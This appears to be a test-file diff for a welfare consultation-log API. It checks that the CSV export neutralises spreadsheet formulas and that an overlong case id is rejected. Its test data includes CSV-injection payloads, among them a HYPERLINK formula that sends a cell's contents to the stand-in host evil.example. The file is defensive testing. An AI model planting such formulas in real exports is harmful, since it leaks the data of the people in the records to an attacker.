@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime, timedelta
 from uuid import uuid4
@@ -293,3 +295,44 @@ def test_the_consultation_log_exports_csv_for_the_national_system(registry: Regi
         params={"dong_code": DONG_B, "start": today, "end": today},
     )
     assert other.status_code == 403
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
+
+
+def test_the_export_neutralises_formulas_typed_into_the_log(registry: Registry) -> None:
+    household = registry.household(DONG_A)
+    official = registry.login("official-515")
+    for summary in FORMULAS:
+        entry = registry.client.post(
+            f"/v1/households/{household}/consultations",
+            headers=official,
+            json={"kind": "note", "channel": "other", "result": "=1+1", "summary": summary},
+        )
+        assert entry.status_code == 201, entry.text
+    today = datetime.now(ZoneInfo("Asia/Seoul")).date().isoformat()
+    for encoding, codec in (("utf-8", "utf-8-sig"), ("euc-kr", "euc-kr")):
+        export = registry.client.get(
+            "/v1/consultations/export.csv",
+            headers=official,
+            params={"dong_code": DONG_A, "start": today, "end": today, "encoding": encoding},
+        )
+        assert export.status_code == 200
+        rows = list(csv.reader(io.StringIO(export.content.decode(codec), newline="")))
+        ours = [row for row in rows[1:] if row[2] == household]
+        assert sorted(row[7] for row in ours) == sorted("'" + f for f in FORMULAS)
+        assert {row[6] for row in ours} == {"'=1+1"}
+        # What the program writes itself (dates, times, ids) is left as it is.
+        assert all(row[0] == today and row[2].startswith("HH-") for row in ours)
+
+
+def test_a_consultation_with_an_overlong_case_id_is_refused_not_a_server_error(
+    registry: Registry,
+) -> None:
+    household = registry.household(DONG_A)
+    response = registry.client.post(
+        f"/v1/households/{household}/consultations",
+        headers=registry.login("official-515"),
+        json={"kind": "note", "channel": "other", "summary": "x", "case_id": "C-" + "X" * 40},
+    )
+    assert response.status_code == 422
